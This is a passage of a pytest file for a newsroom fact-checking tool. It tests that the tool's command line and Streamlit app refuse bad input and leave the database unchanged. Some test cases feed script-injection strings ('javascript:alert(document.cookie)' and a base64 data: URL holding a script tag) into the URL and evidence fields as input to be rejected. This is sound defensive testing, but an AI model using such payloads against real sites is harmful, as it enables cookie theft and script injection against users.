        "Invalid value for '--status'",
        "'bogus' is not one of 'unreviewed', 'in_review'",
        code=2,
    ),
    CliCase(
        "unknown kind",
        lambda w, tmp: ["claims", "--kind", "opinion"],
        "Invalid value for '--kind'",
        "'opinion' is not one of 'numeric', 'attributed'",
        code=2,
    ),
    CliCase(
        "unknown listing format",
        lambda w, tmp: ["claims", "--format", "xml"],
        "Invalid value for '--format'",
        "'xml' is not one of 'table', 'json', 'csv'",
        code=2,
    ),
    CliCase(
        "unknown article",
        lambda w, tmp: ["claims", "--article", str(MISSING)],
        f"There is no article {MISSING}",
        "pick one",
    ),
    CliCase(
        "unknown export format",
        export("--format", "docx"),
        "Invalid value for '--format'",
        "'docx' is not one of 'html', 'pdf', 'md', 'csv', 'json', 'jsonl', 'claimreview'",
        code=2,
    ),
    CliCase(
        "bad --since date",
        export("--format", "csv", "--since", "last tuesday"),
        "--since 'last tuesday' is not a date",
        "give one like 2025-01-31",
    ),
    CliCase(
        "unknown outlet",
        export("--format", "csv", "--outlet", "Nowhere Gazette"),
        "There is no outlet named 'Nowhere Gazette'",
        "check the spelling",
    ),
    CliCase(
        "unknown export status",
        export("--format", "csv", "--status", "verified,unsure"),
        "Invalid value for '--status'",
        "'unsure' is not one of 'unreviewed', 'in_review'",
        code=2,
    ),
    CliCase(
        "unknown article to export",
        export("--format", "csv", "--article", str(MISSING)),
        f"There is no article {MISSING}",
        "pick one",
    ),
    CliCase(
        "reviewer exports",
        export("--format", "csv", user="reviewer"),
        "only an editor or above may export reports",
        "Ask an editor",
    ),
    CliCase(
        "not an e-mail address",
        user_add("ana-at-newsroom", by="admin"),
        "is not an e-mail address",
        "give one like name@newsroom.org",
        stdin=b"correct horse battery\n",
    ),
    CliCase(
        "short password",
        user_add("ana@newsroom.test", by="admin"),
        "The password is too short",
        "use at least 8 characters",
        stdin=b"abc\n",
    ),
    CliCase(
        "unknown role",
        lambda w, tmp: ["user", "add", "ana@newsroom.test", "--role", "chief", "--password-stdin"],
        "Invalid value for '--role'",
        "'chief' is not one of 'reviewer', 'editor', 'admin'",
        code=2,
        stdin=b"correct horse battery\n",
    ),
    CliCase(
        "duplicate user",
        user_add("Editor@Newsroom.test", by="admin"),
        "already exists",
        "factcheck user list",
        stdin=b"correct horse battery\n",
    ),
    CliCase(
        "reviewer adds a user",
        user_add("ana@newsroom.test", by="reviewer"),
        "only an admin may manage users",
        "Ask an admin.",
        stdin=b"correct horse battery\n",
    ),
    CliCase(
        "admin disables themselves",
        lambda w, tmp: ["user", "disable", w.admin.email, "--by", w.admin.email],
        "You cannot disable your own account",
        "ask another admin",
    ),
    CliCase(
        "disable an unknown user",
        lambda w, tmp: ["user", "disable", "ghost@newsroom.test", "--by", w.admin.email],
        "No user 'ghost@newsroom.test'",
        "factcheck user add",
    ),
    CliCase(
        "extract a missing file",
        lambda w, tmp: ["extract", str(tmp / "nowhere.txt")],
        "No file",
        "give a path to a text file",
    ),
    CliCase(
        "extract invalid UTF-8",
        lambda w, tmp: ["extract", "-"],
        "is not UTF-8 text",
        "convert it to UTF-8",
        stdin=b"\xff\xfe caf\xe9",
    ),
    CliCase(
        "backup over an existing file",
        lambda w, tmp: ["backup", file_with("old.db", b"keep me")(tmp)],
        "already exists",
        "choose a new file name",
    ),
]


@pytest.mark.parametrize("case", CLI_CASES, ids=lambda c: c.name)
def test_cli_refuses_bad_input_and_writes_nothing(
    case: CliCase, sqlite_db: str, site: str, tmp_path: Path
) -> None:
    world = build_world(sqlite_db, site)
    args = case.args(world, tmp_path)
    before = snapshot(sqlite_db)
    done = factcheck(sqlite_db, *args, stdin=case.stdin, env=case.env)
    out = done.stdout + done.stderr
    assert done.returncode == case.code, out
    says(out, case.problem, case.advice)
    assert snapshot(sqlite_db) == before


# ---- the UI, under Streamlit's AppTest (SQLite) -------------------------------------------

UIAct = Callable[[AppTest, World], object]


@dataclass(frozen=True)
class UiCase:
    """One bad input in the app: the page it starts on, the action, two phrases shown."""

    name: str
    start: str
    act: UIAct
    problem: str
    advice: str
    user: str | None = "reviewer"
    query: Callable[[World], dict[str, int]] = lambda w: {}
    meanwhile: Callable[[World], object] | None = None  # someone else's change, after opening
    env: dict[str, str] = field(default_factory=dict)


def paste(text: str) -> UIAct:
    def act(at: AppTest, w: World) -> None:
        at.text_area(key="add_paste_text").input(text)
        at.button(key="FormSubmitter:add_paste-Add and find claims").click().run()

    return act


def upload(name: str, data: bytes, mime: str) -> UIAct:
    def act(at: AppTest, w: World) -> None:
        at.file_uploader(key="add_upload_file").set_value((name, data, mime))
        at.button(key="FormSubmitter:add_upload-Add and find claims").click().run()

    return act


def fetch(address: Callable[[World], str]) -> UIAct:
    def act(at: AppTest, w: World) -> None:
        at.text_input(key="add_url_address").input(address(w))
        at.button(key="FormSubmitter:add_url-Fetch and find claims").click().run()

    return act


def on_claim(n: int) -> Callable[[World], dict[str, int]]:
    return lambda w: {"article": w.article.id or 0, "claim": w.claim(n)}


def note_form(body: str) -> UIAct:
    def act(at: AppTest, w: World) -> None:
        key = f"note_{w.claim(0)}"
        at.text_area(key=f"{key}_body").input(body)
        at.button(key=f"FormSubmitter:{key}-Add note").click().run()

    return act


def evidence_form(url: str) -> UIAct:
    def act(at: AppTest, w: World) -> None:
        key = f"evidence_{w.claim(0)}"
        at.text_input(key=f"{key}_url").input(url)
        at.button(key=f"FormSubmitter:{key}-Add evidence").click().run()

    return act


def verdict(n: int, status: Status) -> UIAct:
    def act(at: AppTest, w: World) -> None:
        # The form's key carries the version the reviewer first saw: status_<id>_v<version>.
        (radio,) = [r for r in at.radio if str(r.key).startswith(f"status_{w.claim(n)}_v")]
        key = str(radio.key).removesuffix("_value")
        radio.set_value(status)
        at.button(key=f"FormSubmitter:{key}-Save verdict").click().run()

    return act


def correct_unit(unit: str) -> UIAct:
    def act(at: AppTest, w: World) -> None:
        key = f"edit_{w.claim(0)}"
        at.text_input(key=f"{key}_unit").input(unit)
        at.button(key=f"FormSubmitter:{key}-Save corrections").click().run()

    return act


def log_in(email: Callable[[World], str], password: str) -> UIAct:
    def act(at: AppTest, w: World) -> None:
        at.text_input(key="login_email").input(email(w))
        at.text_input(key="login_password").input(password)
        at.button(key="FormSubmitter:login-Log in").click().run()

    return act


def nothing(at: AppTest, w: World) -> None:
    """Only open the page."""


def rival_change(w: World) -> None:
    with Session(get_engine(w.url)) as s:
        set_status(s, claim_id=w.claim(0), status=Status.IN_REVIEW, by=w.editor, seen_version=1)


UI_CASES = [
    UiCase(
        "unknown claim in the address",
        "claim",
        nothing,
        f"There is no claim {MISSING}",
        "pick one from the Claims list",
        query=lambda w: {"claim": MISSING},
    ),
    UiCase(
        "unknown article in the address",
        "review",
        nothing,
        f"There is no article {MISSING}",
        "pick one from the Articles list",
        query=lambda w: {"article": MISSING},
    ),
    UiCase(
        "unknown claim of a known article",
        "review",
        nothing,
        "Claim (3 in this article",  # the article opens on its first open claim instead
        "Next unreviewed",
        query=lambda w: {"article": w.article.id or 0, "claim": MISSING},
    ),
    UiCase("whitespace paste", "articles", paste("  \n\t "), "The text is empty", "paste"),
    UiCase("invisible paste", "articles", paste(INVISIBLE), "The text is empty", "paste"),
    UiCase(
        "paste over the limit",
        "articles",
        paste("The dam holds 40 million cubic metres. " * 20),
        "over the limit of 300",
        "raise FACTCHECK_MAX_TEXT_CHARS",
        env={"FACTCHECK_MAX_TEXT_CHARS": "300"},
    ),
    UiCase(
        "binary paste",
        "articles",
        paste("\x01\x02\x03\x04\x05\x06" * 50),
        "looks like binary data",
        "give text or HTML",
    ),
    UiCase(
        "PDF upload",
        "articles",
        upload("budget.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "application/pdf"),
        "budget.pdf is a PDF",
        "copy its text",
    ),
    UiCase(
        "binary upload",
        "articles",
        upload("photo.txt", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" * 30, "text/plain"),
        "looks like binary data",
        "give a .txt, .md or .html file",
    ),
    UiCase(
        "invalid UTF-8 upload",
        "articles",
        upload("latin.txt", "Caf\xe9 owners said 30 shops shut.".encode("cp1252"), "text/plain"),
        "latin.txt is not valid utf-8 text",
        "save it as UTF-8",
    ),
    UiCase(
        "javascript: URL",
        "articles",
        fetch(lambda w: "javascript:alert(1)"),
        "is not a web address",
        "https://",
    ),
    UiCase(
        "404 URL",
        "articles",
        fetch(lambda w: f"{w.site}/no-such-story"),
        "answered 404",
        "check the address",
    ),
    UiCase(
        "PDF URL",
        "articles",
        fetch(lambda w: f"{w.site}/report.pdf"),
        "is application/pdf",
        "give the address of an article page",
    ),
    UiCase(
        "over-long note",
        "review",
        note_form("Checked the bulletin. " * 10),
        "over the limit of 100",
        "shorten it",
        query=on_claim(0),
        env={"FACTCHECK_MAX_NOTE_CHARS": "100"},
    ),
    UiCase(
        "empty note",
        "review",
        note_form("   "),
        "The note is empty",
        "write what you found",
        query=on_claim(0),
    ),
    UiCase(
        "javascript: evidence",
        "review",
        evidence_form("javascript:alert(document.cookie)"),
        "is not a web address",
        "must start with http",
        query=on_claim(0),
    ),
    UiCase(
        "data: evidence",
        "review",
        evidence_form("data:text/html;base64,PHNjcmlwdD4="),
        "is not a web address",
        "must start with http",
        query=on_claim(0),
    ),
    UiCase(
        "reviewer overrides a verdict",
        "review",
        verdict(1, Status.FALSE),
        "only an editor or above may change a final verdict",
        "Ask an editor",
        query=on_claim(1),
    ),
    UiCase(
        "stale verdict",
        "review",
        verdict(0, Status.VERIFIED),
        "changed since you opened it",
        "reload the claim",
        query=on_claim(0),
        meanwhile=rival_change,
    ),
    UiCase(
        "over-long unit",
        "review",
        correct_unit("residents " * 15),
        "over the limit of 100",
        "shorten it",
        query=on_claim(0),
    ),
    UiCase(
        "wrong password",
        "claims",
        log_in(lambda w: w.reviewer.email, "Tr0ub4dor&3"),
        "Wrong e-mail or password",
        "disabled",
        user=None,
    ),
    UiCase(
        "disabled user logs in",
        "claims",
        log_in(lambda w: w.disabled.email, PASSWORD),
        "Wrong e-mail or password",
        "disabled",
        user=None,
    ),
    UiCase(
        "disabled user still has a session",
        "claims",
        nothing,
        "E-mail",  # sent back to the login form
        "Password",
        user="disabled",
    ),
]


def shown(at: AppTest) -> str:
    """Every message, text and widget label on the page."""
    parts: list[Any] = []
    for kind in ("title", "header", "markdown", "caption", "info", "success", "warning", "error"):
        parts.extend(getattr(el, "value", "") for el in getattr(at, kind))
    parts.extend(w.label for w in (*at.text_input, *at.button, *at.selectbox))
    text = "\n".join(str(p) for p in parts)
    # As a reader sees it: without the Markdown escapes and word joiners of ui.common.plain.
    return re.sub(r"\\(.)", r"\1", text).replace("\u2060", "")


@pytest.mark.parametrize("case", UI_CASES, ids=lambda c: c.name)
def test_the_app_refuses_bad_input_and_writes_nothing(
    case: UiCase, sqlite_db: str, site: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FACTCHECK_DATABASE_URL", sqlite_db)
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    world = build_world(sqlite_db, site)
    at = AppTest.from_string(
        f"from factcheck.ui.main import run\nrun(start={case.start!r})\n", default_timeout=60
    )
    if case.user is not None:
        at.session_state[USER_KEY] = getattr(world, case.user).id
    for param, number in case.query(world).items():
        at.query_params[param] = str(number)
    at.run()
    if case.meanwhile is not None:
        case.meanwhile(world)
    before = snapshot(sqlite_db)
    case.act(at, world)
    assert not at.exception, at.exception
    says(shown(at), case.problem, case.advice)
    assert snapshot(sqlite_db) == before
